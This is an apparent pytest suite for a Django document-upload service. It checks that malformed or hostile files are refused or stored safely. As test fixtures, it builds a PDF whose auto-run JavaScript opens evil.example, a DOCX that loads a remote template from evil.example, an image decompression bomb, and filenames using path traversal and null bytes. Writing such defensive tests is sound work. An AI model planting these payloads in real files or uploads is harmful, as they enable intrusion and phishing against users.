"""Odd files through the page, opened in the process apart as in life: refused with what to do, or kept right."""

import html
import io
from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import Client
from PIL import Image

from caseday.documents.files.store import Store
from caseday.documents.models import Document, DocumentFile, DocumentText
from caseday.documents.tests.files_made import MAIL, docx, huge_png, turned_photo
from caseday.documents.tests.made import make_pdf

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("apart")]


def pdf_with(change: Any, pages: int = 1) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf(max(pages, 1)))) as pdf:
        change(pdf)
        pdf.save(out)
    return out.getvalue()


def with_script(pdf: pikepdf.Pdf) -> None:
    run = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.launchURL('http://evil.example')")
    pdf.Root.OpenAction = run
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", pdf.make_indirect(run)]))
    )


def without_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[0]


def long_pdf(pages: int) -> bytes:
    out = io.BytesIO()
    with pikepdf.Pdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=(612, 792))
        pdf.save(out)
    return out.getvalue()


def real_bomb(side: int = 14_000) -> bytes:
    out = io.BytesIO()
    Image.new("L", (side, side)).save(out, "PNG")
    return out.getvalue()


def mixed_tiff() -> bytes:
    from PIL import TiffImagePlugin

    out = io.BytesIO()
    with TiffImagePlugin.AppendingTiffWriter(out, True) as tiff:
        for mode, how in (("1", "group4"), ("RGB", "jpeg"), ("RGB", "tiff_lzw"), ("L", "packbits")):
            Image.new(mode, (172, 220), 1).save(tiff, format="TIFF", compression=how)
            tiff.newFrame()
    return out.getvalue()


def heic_burst() -> bytes:
    import pillow_heif

    burst = pillow_heif.HeifFile()
    for color in ("navy", "green", "red"):
        burst.add_from_pillow(Image.new("RGB", (64, 48), color))
    out = io.BytesIO()
    burst.save(out)
    return out.getvalue()


def nested_mail(depth: int = 5) -> bytes:
    mail: Any = EmailMessage()
    mail["Subject"], mail["From"] = "Innermost: MRI report", "records@example.com"
    mail.set_content("No fracture seen.")
    for level in range(depth):
        outer = EmailMessage()
        outer["Subject"], outer["From"] = f"Fwd {level}", "nora.field@example.com"
        outer.set_content(f"See below, {level}.")
        outer.add_attachment(mail)
        mail = outer
    return mail.as_bytes()


WORD_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ODD = {
    "script.pdf": lambda: pdf_with(with_script),
    "empty.pdf": lambda: pdf_with(without_pages),
    "3000.pdf": lambda: long_pdf(3000),
    "header.png": huge_png,
    "bomb.png": real_bomb,
    "turned.jpg": turned_photo,
    "burst.heic": heic_burst,
    "mixed.tif": mixed_tiff,
    "macro.docx": lambda: docx("Please sign.", word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0macro"),
    "template.docx": lambda: docx("Please sign.", word___rels__document_dot_xml_dot_rels=WORD_RELS),
    "nested.eml": nested_mail,
    "utf16.txt": lambda: "Seen on Monday. Schmerz läßt nach. 王".encode("utf-16"),
    "utf16be.txt": lambda: "Seen on Monday, läßt nach.".encode("utf-16-be"),
    "../../x.pdf": lambda: make_pdf(),
    "a\0b.pdf": lambda: make_pdf(),
    "\0": lambda: make_pdf(),
}


REFUSED = {
    "empty.pdf": "The PDF is damaged and cannot be opened. Ask for it again",
    "3000.pdf": "The PDF has more than 2000 pages. Split it",
    "header.png": "The picture has more than 100 million dots. Save it smaller",
    "bomb.png": "The picture has more than 100 million dots. Save it smaller",
    "macro.docx": "The Word document has macros. Save it as PDF",
    "utf16be.txt": "Caseday takes PDF, TIFF, JPEG, PNG, HEIC, DOCX, EML or TXT. Print it as a PDF",
    "\0": "Choose a file",
}
KEPT = {
    "script.pdf": ("script", 1, "page 1"),
    "turned.jpg": ("turned", 1, ""),
    "burst.heic": ("burst", 3, ""),
    "mixed.tif": ("mixed", 4, ""),
    "template.docx": ("template", 1, "Please sign."),
    "nested.eml": ("nested", 1, "Innermost: MRI report"),
    "utf16.txt": ("utf16", 1, "Schmerz läßt nach. 王"),
    "../../x.pdf": ("x", 1, "page 1"),
    "a\0b.pdf": ("ab", 1, "page 1"),
}


def send(client: Client, name: str, data: bytes) -> HttpResponse:
    upload = SimpleUploadedFile("x", data, "application/octet-stream")
    upload._name = name  # as it came, not as Django would clean it
    return client.post("/papers/add", {"files": [upload]})


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_with_what_to_do_and_leaves_nothing(
    name: str, nora_client: Client, store: Store
) -> None:
    answer = send(nora_client, name, ODD[name]())
    assert answer.status_code == 422
    assert REFUSED[name] in html.unescape(answer.content.decode())
    assert not Document.objects.exists()
    assert not [*store.arrivals(), *store.walk()]


@pytest.mark.parametrize("name", KEPT)
def test_it_is_kept_as_it_came_and_shown(name: str, nora_client: Client, store: Store) -> None:
    data = ODD[name]()
    assert send(nora_client, name, data).status_code == 302
    document = Document.objects.get()
    title, pages, words = KEPT[name]
    assert (document.title, document.pages) == (title, pages)
    kept = DocumentFile.objects.get(role=DocumentFile.Role.ORIGINAL)
    assert store.path_of(kept.sha256).read_bytes() == data
    assert words in "".join(DocumentText.objects.values_list("text", flat=True))
    for path in ("", f"page/{pages}.png", "pdf"):
        assert nora_client.get(f"/papers/{document.pk}/{path}").status_code == 200
    original = nora_client.get(f"/papers/{document.pk}/original/0")
    assert original["Content-Disposition"] == f'attachment; filename="{kept.name}"' and "/" not in kept.name
    assert not list(store.arrivals())


def test_a_photo_stands_upright_and_a_script_runs_nowhere(nora_client: Client) -> None:
    send(nora_client, "turned.jpg", turned_photo())
    document = Document.objects.get()
    drawn = nora_client.get(f"/papers/{document.pk}/page/1.png")
    width, height = Image.open(io.BytesIO(b"".join(drawn))).size
    assert height > width
    send(nora_client, "script.pdf", ODD["script.pdf"]())
    shown = nora_client.get(f"/papers/{Document.objects.get(title='script').pk}/pdf")
    assert "default-src 'none'" in shown["Content-Security-Policy"]


def test_html_within_a_forwarded_message_is_read_though_the_outer_one_has_plain_words(
    nora_client: Client,
) -> None:
    inner, outer = EmailMessage(), EmailMessage()
    inner["Subject"] = "Certified"
    inner.set_content("<p>The <b>surgery</b> is certified.</p>", subtype="html")
    outer["Subject"], outer["From"] = "Fwd", "nora.field@example.com"
    outer.set_content("See below.")
    outer.add_attachment(inner)
    send(nora_client, "fwd.eml", outer.as_bytes())
    assert "The surgery is certified." in DocumentText.objects.get().text


def test_two_at_once_of_the_same_content_are_one_file(store: Store) -> None:
    arrivals = [store.new_arrival() for _ in range(8)]
    for one in arrivals:
        one.write_bytes(MAIL)
    with ThreadPoolExecutor(8) as pool:
        kept = list(pool.map(store.keep, arrivals))
    assert len(set(kept)) == len(list(store.walk())) == 1
    assert not list(store.arrivals())
